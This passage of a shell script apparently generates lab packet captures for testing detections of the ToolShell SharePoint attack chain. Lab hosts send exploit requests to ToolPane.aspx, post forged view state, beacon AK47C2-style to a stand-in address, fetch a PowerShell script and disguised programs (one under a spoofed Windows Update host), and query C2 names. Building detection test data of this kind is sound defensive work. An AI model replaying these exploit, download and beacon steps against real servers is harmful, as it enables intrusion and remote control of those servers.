  "$PY" "$SC_HERE/settle.py" -o "$SC_TOP/pcaps/toolshell/keys-used.pcap" 2025-07-19T08:00:00Z "$SC_TMP/k1.raw" 2025-08-02T03:00:00Z "$SC_TMP/k2.raw"
  note "ToolShell: keys leak, two weeks later encrypted view state comes" \
    "the five-field line leaves the server for 10.77.1.10; fourteen days later 10.77.1.67 posts view state that cannot be read, with __VIEWSTATEENCRYPTED" \
    "$CURL_V, server.py; recorded one after the other, times set to the pieces" "toolshell.machinekey-leak once, toolshell.keys-used once" "toolshell.takeover"
fi

# Two recordings of one server: attacked at 10:00, and later, as a client, whatever the function does.
later() { # CASE TIME FUNCTION
  SC_CASE=$1
  say "toolshell/$1"
  left_ip 10.77.1.66
  serve right 80 "$PY" "$SC_HERE/server.py" sharepoint 80; WEBS=$SC_SERVER
  rec "$SC_TMP/l1.raw"
  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx --interface 10.77.1.66
  rec_end
  unserve "$WEBS"
  left_ip 10.77.3.80; left_ip 10.77.3.81; left_ip 10.77.3.53; right_ip 10.77.2.11
  serve left 80 "$PY" "$SC_HERE/server.py" payload 80; WEBS=$SC_SERVER
  sed "s/listen-address=.*/listen-address=10.77.3.53/" "$SC_TMP/dns.conf" >"$SC_TMP/dns2.conf"
  printf 'address=/ctldl.windowsupdate.com/10.77.3.81\n' >>"$SC_TMP/dns2.conf"
  serve left 53 dnsmasq -C "$SC_TMP/dns2.conf" --pid-file="$SC_TMP/dnsmasq2.pid"; DNSS=$SC_SERVER
  rec "$SC_TMP/l2.raw"
  "$3"
  rec_end
  unserve "$WEBS"; unserve "$DNSS"
  "$PY" "$SC_HERE/settle.py" -o "$SC_TOP/pcaps/toolshell/$1.pcap" 2025-07-19T10:00:00Z "$SC_TMP/l1.raw" "$2" "$SC_TMP/l2.raw"
}
LATER="$CURL_V, server.py; recorded one after the other, times set to the pieces"
out() { right curl -q -s -S -o /dev/null --noproxy '*' --max-time 20 "$@"; }
POWERSHELL='Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.17763.1'
fetch() { out -A "$POWERSHELL" "http://10.77.3.80/a/run.ps1"; out -A '' "http://10.77.3.80/img/logo.dat"; }
beacon() { $SHAPES ak47-http >"$SC_TMP/ak"; out -A '' -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/ak" "$@"; }

if wants chain-gap; then
  known_host() { out --resolve "c34718cbb4c6.ngrok-free.app:80:10.77.3.80" -A "$POWERSHELL" http://c34718cbb4c6.ngrok-free.app/; }
  later chain-gap 2025-07-21T16:30:00Z known_host
  note "ToolShell: the request, and two days later a published host" \
    "the exploit request; two days later the server itself asks a published delivery host. Neither key theft nor view state is in the recording" \
    "$LATER" "toolshell.takeover once, with two of four stages, half the confidence and the missing stages named" "toolshell.hit-download"
fi
if wants chain-http; then
  home() { beacon http://10.77.3.80/; }
  later chain-http 2025-07-20T01:00:00Z home
  note "ToolShell: the request, then AK47C2 over HTTP" "the exploit request; fifteen hours later the server posts an AK47C2 message to a bare address" \
    "$LATER" "toolshell.takeover once, toolshell.ak47-http once" "-"
fi
if wants chain-near; then
  other() { beacon --interface 10.77.2.11 http://10.77.3.80/; }
  later chain-near 2025-07-19T10:20:00Z other
  note "Near miss: one server is attacked, another one beacons" "the exploit request to 10.77.2.10; AK47C2 over HTTP from 10.77.2.11" \
    "$LATER" "toolshell.toolpane-signout and toolshell.ak47-http" "toolshell.takeover, toolshell.hit-download"
fi
if wants hit-download; then
  later hit-download 2025-07-19T10:02:00Z fetch
  note "ToolShell: what the attacked server fetches" \
    "the exploit request; two minutes later the server fetches a PowerShell script, and a program under another name, from a bare address" \
    "$LATER" "toolshell.hit-download once, for both, toolshell.takeover once" "-"
fi
if wants hit-update; then
  spoof() { out --resolve "ctldl.windowsupdate.com:80:10.77.3.80" -A 'Microsoft-CryptoAPI/10.0' http://ctldl.windowsupdate.com/msdownload/update/tool.exe; }
  later hit-update 2025-07-19T10:02:00Z spoof
  note "ToolShell: the attacked server fetches a program as if from Windows Update" \
    "the exploit request; then a download with the Host field of an update service from an address that name was never looked up to be" \
    "$LATER" "toolshell.hit-download once" "-"
fi
if wants hit-download-near; then
  ordinary() {
    out --interface 10.77.2.11 -A "$POWERSHELL" "http://10.77.3.80/a/run.ps1"
    right dig +time=2 +tries=1 +noedns @10.77.3.53 ctldl.windowsupdate.com A >/dev/null
    out --resolve "ctldl.windowsupdate.com:80:10.77.3.81" -A 'Microsoft-CryptoAPI/10.0' http://ctldl.windowsupdate.com/msdownload/update/kb.exe
    out --resolve "crl.example.net:80:10.77.3.81" -A 'Microsoft-CryptoAPI/10.0' http://crl.example.net/pki/inert.crl
  }
  later hit-download-near 2025-07-19T10:02:00Z ordinary
  rec "$SC_TMP/l3.raw"
  serve left 80 "$PY" "$SC_HERE/server.py" payload 80; WEBS=$SC_SERVER
  out -A "$POWERSHELL" "http://10.77.3.80/a/run.ps1"
  rec_end
  unserve "$WEBS"
  "$PY" "$SC_HERE/settle.py" -o "$SC_TOP/pcaps/toolshell/hit-download-near.pcap" 2025-07-19T10:00:00Z "$SC_TMP/l1.raw" \
    2025-07-19T10:02:00Z "$SC_TMP/l2.raw" 2025-07-19T10:31:00Z "$SC_TMP/l3.raw"
  note "Near miss: ordinary downloads around an attack" \
    "the exploit request to 10.77.2.10; then another server fetches a script; the attacked one looks up an update service and fetches a program there, and a list of revoked certificates from somewhere; after half an hour it fetches a script" \
    "$LATER, $DIG_V, $DNSMASQ_V" "-" "toolshell.hit-download"
fi

if wants chain; then
  SC_CASE=chain
  say toolshell/chain
  left_ip 10.77.1.66; left_ip 10.77.1.67; left_ip 10.77.3.53
  serve right 80 "$PY" "$SC_HERE/server.py" sharepoint 80; WEBS=$SC_SERVER
  sed "s/listen-address=.*/listen-address=10.77.3.53/" "$SC_TMP/dns.conf" >"$SC_TMP/dns2.conf"
  serve left 53 dnsmasq -C "$SC_TMP/dns2.conf" --pid-file="$SC_TMP/dnsmasq2.pid"; DNSS=$SC_SERVER
  rec "$SC_TMP/c1.raw"
  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx --interface 10.77.1.66
  sp --interface 10.77.1.66 -H 'Referer: /_layouts/SignOut.aspx' "$B/_layouts/15/spinstall0.aspx"
  rec_end
  rec "$SC_TMP/c2.raw"
  sp --interface 10.77.1.67 "$B/_layouts/15/start.aspx"
  $SHAPES viewstate-form root >"$SC_TMP/vs"
  sp --interface 10.77.1.67 -H "$FORM" --data-binary "@$SC_TMP/vs" "$B/_layouts/15/start.aspx"
  rec_end
  rec "$SC_TMP/c3.raw"
  right dig +time=2 +tries=1 +noedns @10.77.3.53 "$N4" TXT >/dev/null
  right dig +time=2 +tries=1 +noedns @10.77.3.53 "$N4" TYPE8 >/dev/null
  rec_end
  unserve "$WEBS"; unserve "$DNSS"
  mkdir -p "$SC_TOP/pcaps/toolshell"
  "$PY" "$SC_HERE/settle.py" -o "$SC_TOP/pcaps/toolshell/chain.pcap" 2025-07-18T18:06:00Z "$SC_TMP/c1.raw" \
    2025-07-19T21:40:00Z "$SC_TMP/c2.raw" 2025-07-20T02:15:00Z "$SC_TMP/c3.raw"
  note "ToolShell from the first request to command and control" \
    "three recordings on one server, hours apart: exploit and key page from 10.77.1.66; a day later forged view state from 10.77.1.67; then the server itself (10.77.2.10) asks for AK47C2 names" \
    "$CURL_V, $DIG_V, server.py, $DNSMASQ_V; recorded one after the other, times set to the pieces" \
    "every stage, and toolshell.takeover once, by server address, with all four stages" "-"
fi
